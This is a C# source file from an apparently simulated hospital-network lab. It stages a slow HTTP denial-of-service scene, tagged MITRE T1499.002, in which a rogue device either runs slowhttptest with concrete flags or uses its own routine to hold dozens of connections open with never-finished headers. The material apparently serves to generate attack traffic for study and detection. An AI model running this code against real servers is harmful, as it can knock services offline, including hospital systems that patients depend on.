using System.Net.Sockets;
using System.Text;
using Wardkeeper.Lab.Hospital;
using Wardkeeper.Lab.Services;
using Wardkeeper.Lab.Site;

namespace Wardkeeper.Lab.Attacks.Floods;

/// <summary>A laptop opens many requests to a web server of the hospital and never ends them: a line of the head now and then.</summary>
internal sealed class SlowRequests() : Scene("slow-requests",
    "A laptop holds many web requests to a device or server open and feeds them drop by drop.",
    "一台笔记本电脑向设备或服务器打开大量网页请求，逐点续传、迟迟不结束。",
    "T1499.002")
{
    private const int Port = 80;
    private static readonly string[] Pages = ["/", "/index.html", "/login", "/cgi-bin/status"], Verbs = ["GET", "POST", "HEAD"];

    /// <inheritdoc/>
    public override IReadOnlyList<Requirement> Needs => [new("slowhttptest", "slowhttptest")];

    /// <inheritdoc/>
    public override async Task<SceneReport> RunAsync(SceneStage stage, CancellationToken cancel)
    {
        HospitalDevice server = stage.Dice.Of(Cast.Offering(stage.Site, "http"));
        string program = stage.Dice.Of(["slowhttptest", "own"]), page = stage.Dice.Of(Pages), verb = stage.Dice.Of(Verbs);
        int connections = stage.Dice.Between(45, 80), rate = stage.Dice.Between(15, 40), pause = stage.Dice.Between(3, 6), seconds = stage.Dice.Between(32, 40);
        HostNamespace rogue = await stage.PlugAsync(RogueDevice.In(stage, stage.Dice.Of(Cast.Inside(stage.Site)).Department), cancel);

        stage.Begin();
        if (program == "own") await DripAsync(rogue, server, $"{verb} {page} HTTP/1.1\r\nHost: {server.Ip}\r\n", (connections, rate, pause, seconds), cancel);
        else await stage.RunAsync(rogue, program, ["-H", "-c", SceneStage.Text(connections), "-r", SceneStage.Text(rate), "-i", SceneStage.Text(pause), "-l", SceneStage.Text(seconds), "-t", verb, "-p", "3", "-u", $"http://{server.Ip}{page}"], cancel, seconds: seconds + 30);
        return new SceneReport([AllOf(rogue)],
            [("attacker", rogue.Device.Ip.ToString()), ("server", server.Key), ("program", program), ("verb", verb), ("page", page), ("connections", SceneStage.Text(connections)), ("pause", SceneStage.Text(pause)), ("seconds", SceneStage.Text(seconds))]);
    }

    /// <summary>Opens connections one after the other and sends a line of a head that never ends on each, again and again.</summary>
    private static async Task DripAsync(HostNamespace rogue, HospitalDevice server, string begin, (int Connections, int Rate, int Pause, int Seconds) plan, CancellationToken cancel)
    {
        List<NetworkStream> open = [];
        try
        {
            for (int i = 0; i < plan.Connections; i++)
            {
                NetworkStream stream = await rogue.ConnectAsync(server.Ip, Port, cancel);
                open.Add(stream);
                await stream.WriteAsync(Encoding.ASCII.GetBytes(begin), cancel);
                await Task.Delay(1000 / plan.Rate, cancel);
            }
            for (int passed = 0; passed < plan.Seconds; passed += plan.Pause)
            {
                await Task.Delay(TimeSpan.FromSeconds(plan.Pause), cancel);
                foreach (NetworkStream stream in open) await DropAsync(stream, passed, cancel);
            }
        }
        finally
        {
            foreach (NetworkStream stream in open) await stream.DisposeAsync();
        }
    }

    private static async Task DropAsync(NetworkStream stream, int number, CancellationToken cancel)
    {
        try
        {
            await stream.WriteAsync(Encoding.ASCII.GetBytes($"X-{number}: {number}\r\n"), cancel);
        }
        catch (IOException)
        {
            // The server had enough of this one.
        }
    }
}
